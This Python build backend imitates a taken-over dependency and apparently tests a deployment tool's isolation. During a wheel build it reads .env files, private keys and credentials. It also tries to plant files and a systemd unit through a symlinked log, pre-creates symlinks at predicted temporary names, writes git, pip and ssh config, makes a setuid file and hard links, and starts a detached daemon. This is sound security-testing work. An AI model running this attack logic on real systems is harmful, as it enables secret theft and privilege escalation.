"""The build backend of a dependency that was taken over: it attacks first, then builds an ordinary wheel.

attack.json beside it names the stories, which are functions here, and whether the build fails in the end. Each result goes to
build-hook.json in the virtual environment, the only place that a build may write to; a build that fails prints it.
"""

import glob
import json
import os
import pwd
import subprocess
import sys
import time
import zipfile

APPLICATION = "/opt/crypto-robot"
STATE = "/var/lib/crypto-robot-deployer"
HOME = "/home/ec2-user"
UNIT = "[Unit]\nDescription=planted\n[Service]\nExecStart=/bin/touch /root/pwned\n"
SECONDS_TO_SPY = 25


def tried(action, *arguments):
    try:
        action(*arguments)
    except OSError as error:
        return error.strerror or str(error)
    return "done"


def output_of(*command):
    try:
        done = subprocess.run(command, capture_output=True, text=True, check=False)
    except OSError as error:
        return error.strerror
    return (done.stdout + done.stderr).strip()


def written(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def readable(*patterns):
    """The files that this process can read."""
    found = []
    for path in (path for pattern in patterns for path in glob.glob(pattern, recursive=True)):
        try:
            with open(path, "rb") as file:
                file.read(1)
            found.append(path)
        except OSError:
            continue
    return found


def there_and_back(path):
    os.rename(path, path + ".former")
    os.rename(path + ".former", path)


def privileges(_):
    with open("/proc/self/status") as file:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    found = {name: status[name] for name in ("NoNewPrivs", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "Groups")}
    found.update(sudo=output_of("sudo", "-n", "id"), setuid=output_of("/usr/local/bin/setuid-id"),
                 user=pwd.getpwuid(os.getuid()).pw_name, home=sorted(os.listdir(os.environ["HOME"])),
                 homes=[path for path in glob.glob("/home/*") + ["/root"] if os.access(path, os.W_OK)],
                 others=len([pid for pid in os.listdir("/proc") if pid.isdigit() and os.stat("/proc/" + pid).st_uid != os.getuid()]))
    return found


def secrets(_):
    """What this build can read of others, and whether it can write where the rest of the deployer does."""
    others = readable(
        APPLICATION + "/releases/*/.env", APPLICATION + "/current/.env", APPLICATION + "/releases/*/.deployer-env-base",
        APPLICATION + "/certificates/**/key.pem", APPLICATION + "/certificates/.versions/*/key.pem",
        APPLICATION + "/.deployer/**", APPLICATION + "/lock", APPLICATION + "/history.jsonl", APPLICATION + "/log/*",
        APPLICATION + "/mirror/*/config", "/var/lib/crypto-robot-deployer/**", "/run/crypto-robot-*/git/*", "/run/crypto-robot-*/**", "/etc/crypto-robot-index.netrc")
    # Its own task: what it installs, which is no secret.
    found = {"read": [path for path in others if not path.startswith("/run/crypto-robot-build/")]}
    own = os.path.realpath(sys.prefix)
    places = {"application": APPLICATION, "release": max(glob.glob(APPLICATION + "/releases/*"), default=APPLICATION + "/releases/x"),
              "current": os.path.join(os.path.realpath(APPLICATION + "/current")), "shared": APPLICATION + "/shared/data",
              "environment": next((path for path in glob.glob(APPLICATION + "/venvs/*") if path != own), APPLICATION + "/venvs/another"),
              "mirror": next(iter(glob.glob(APPLICATION + "/mirror/*")), APPLICATION + "/mirror/x.git"),
              "deployer": APPLICATION + "/.deployer", "etc": "/etc", "run": "/run", "program": "/usr/local/lib/crypto-robot-deployer"}
    found["write"] = {name: tried(written, os.path.join(place, "planted"), "x") for name, place in places.items()}
    return found


def manifest(attack):
    """The manifest of the serving release gets a number that is a command."""
    path = os.path.join(os.path.realpath(APPLICATION + "/current"), "release.json")

    def replaced():
        with open(path) as file:
            found = json.load(file)
        for service in found["services"]:
            if service["type"] == "trading_robot":
                service.update(heartbeat_file="data/heartbeat", max_age_seconds=attack["number"])
        os.unlink(path)
        written(path, json.dumps(found))
    return tried(replaced)


def log(_):
    def replaced():
        os.rename(STATE + "/log", STATE + "/log.former")
        os.mkdir(STATE + "/log")
        os.symlink("/etc/systemd/system/planted.service", STATE + "/log/deploy-release.log")
    print(UNIT, flush=True)
    places = [STATE] + [os.path.join(STATE, name) for name in ("history.jsonl", "lock", "releases")]
    places += [os.path.join(APPLICATION, name) for name in (".new", "releases", "certificates", "venvs", "current")]
    found = {place: tried(there_and_back, place) for place in places}
    return dict(found, log=tried(replaced))


def temporary(_):
    """Links at the names to which root used to write, with the ids of future processes."""
    releases = glob.glob(APPLICATION + "/releases/*")
    made = 0
    for number in range(os.getpid(), os.getpid() + 6000):
        for name in (".deployer-env-base", "release.json"):
            for release in releases:
                link = "%s/%s.%d.new" % (release, name, number)
                made += tried(os.symlink, "/etc/planted-by-a-link", link) == "done"
    return made


def home(_):
    """Settings for later steps in the homes that git, pip and ssh look at."""
    return {name: tried(written, "%s/%s" % (HOME, name), "x") for name in (".gitconfig", ".config/pip/pip.conf", ".ssh/config")}


def links(_):
    """What root would change when it takes over the environment."""
    outside = [path for path in ("/usr/bin/id", "/etc/passwd", APPLICATION + "/current/.env") if os.path.lexists(path)]

    def set_id():
        written(sys.prefix + "/set-id", "x")
        os.chmod(sys.prefix + "/set-id", 0o4755)
    os.symlink("/etc/passwd", sys.prefix + "/link-to-passwd")
    return {"hard": {path: tried(os.link, path, "%s/hard-%d" % (sys.prefix, number)) for number, path in enumerate(outside)},
            "set_id": tried(set_id)}


def pipe(_):
    """Whoever reads it waits without end."""
    return tried(os.mkfifo, sys.prefix + "/pipe")


def daemon(_):
    """A process that leaves its session and its parents, and writes to the environment for as long as it lives."""
    # The file is never empty: the process may be killed at any moment.
    code = ("import os, time\nalive = os.open(%r, os.O_WRONLY | os.O_CREAT, 0o644)\nos.pwrite(alive, b'outlives-its-build', 0)\n"
            "if os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\nuntil = time.time() + 600\n"
            "while time.time() < until:\n os.pwrite(alive, b'outlives-its-build', 0)\n time.sleep(0.02)\n" % (sys.prefix + "/alive"))
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.run([sys.executable, "-c", code, "outlives-its-build"], start_new_session=True, check=False, **quiet)
    return os.path.exists(sys.prefix)


def spies(_):
    """Looks for the login of a step that runs at the same time."""
    found, until = set(), time.time() + SECONDS_TO_SPY
    while time.time() < until:
        found.update(readable("/run/crypto-robot-*/git/*", "/run/crypto-robot-*/**", "/run/credentials/**", "/tmp/crypto-robot-*/**"))
    return sorted(found)


def build_wheel(folder, config_settings=None, metadata_directory=None):
    with open("attack.json") as file:
        attack = json.load(file)
    found = {name: globals()[name](attack) for name in attack["stories"]}
    written(sys.prefix + "/build-hook.json", json.dumps(found))
    if attack["fails"]:
        print("build-hook: " + json.dumps(found), flush=True)
        sys.exit("the build ends here")
    name = "taken_over-%s-py3-none-any.whl" % attack["version"]
    about = "taken_over-%s.dist-info/" % attack["version"]
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("taken_over.py", "")
        wheel.writestr(about + "METADATA", "Metadata-Version: 2.1\nName: taken-over\nVersion: %s\n" % attack["version"])
        wheel.writestr(about + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(about + "RECORD", "")
    return name
